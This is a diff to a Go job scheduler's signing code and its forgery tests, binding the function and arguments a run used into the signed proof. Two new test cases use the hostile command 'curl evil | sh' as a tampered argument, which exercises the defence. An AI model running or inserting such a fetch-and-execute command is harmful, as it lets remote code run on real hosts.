@@ -105,7 +105,7 @@ func (s *system) publish(nc *nats.Conn, subject string, v any) {
 }
 
 func claim(r *wire.ScheduledResult) settings.Claim {
-	return settings.Claim{Commit: r.Commit, File: r.Origin, Author: r.Author}
+	return settings.Claim{Commit: r.Commit, File: r.Origin, Author: r.Author, Ran: r.Ran}
 }
 
 func (s *system) proofKey() settings.ProofKey {
@@ -124,6 +124,7 @@ func (s *system) proofKey() settings.ProofKey {
 // proven returns the report with the proof that the peel's document has for its entry.
 func (s *system) proven(r wire.ScheduledResult) wire.ScheduledResult {
 	key := s.proofKey()
+	r.Ran = settings.Ran(r.Function, r.Args)
 	r.Proof = key.Prove(r.Peel, r.Entry, claim(&r))
 	return r
 }
@@ -258,10 +259,18 @@ func TestARunIsNoUsersJob(t *testing.T) {
 func TestAnOriginIsShownOnlyWithTheProofThatThePeelWasGiven(t *testing.T) {
 	other := settings.ProofKey{1}
 	for name, forge := range map[string]func(key *settings.ProofKey, r *wire.ScheduledResult){
-		"no proof":                func(_ *settings.ProofKey, r *wire.ScheduledResult) { r.Proof = "" },
-		"another key":             func(_ *settings.ProofKey, r *wire.ScheduledResult) { r.Proof = other.Prove(r.Peel, r.Entry, claim(r)) },
-		"another peel's proof":    func(k *settings.ProofKey, r *wire.ScheduledResult) { r.Proof = k.Prove("db-01", r.Entry, claim(r)) },
-		"another entry's proof":   func(_ *settings.ProofKey, r *wire.ScheduledResult) { r.Entry = "backup" },
+		"no proof":              func(_ *settings.ProofKey, r *wire.ScheduledResult) { r.Proof = "" },
+		"another key":           func(_ *settings.ProofKey, r *wire.ScheduledResult) { r.Proof = other.Prove(r.Peel, r.Entry, claim(r)) },
+		"another peel's proof":  func(k *settings.ProofKey, r *wire.ScheduledResult) { r.Proof = k.Prove("db-01", r.Entry, claim(r)) },
+		"another entry's proof": func(_ *settings.ProofKey, r *wire.ScheduledResult) { r.Entry = "backup" },
+		"another function":      func(_ *settings.ProofKey, r *wire.ScheduledResult) { r.Function, r.Args = "test.ping", nil },
+		"other arguments": func(_ *settings.ProofKey, r *wire.ScheduledResult) {
+			r.Args = map[string]any{"command": "curl evil | sh"}
+		},
+		"what it says it ran": func(_ *settings.ProofKey, r *wire.ScheduledResult) {
+			r.Args = map[string]any{"command": "curl evil | sh"}
+			r.Ran = settings.Ran(r.Function, r.Args)
+		},
 		"another author":          func(_ *settings.ProofKey, r *wire.ScheduledResult) { r.Author = "Mallory <m@example.org>" },
 		"another commit":          func(_ *settings.ProofKey, r *wire.ScheduledResult) { r.Commit = "fedcba9876543210" },
 		"another file":            func(_ *settings.ProofKey, r *wire.ScheduledResult) { r.Origin = "web/other.yaml:7" },
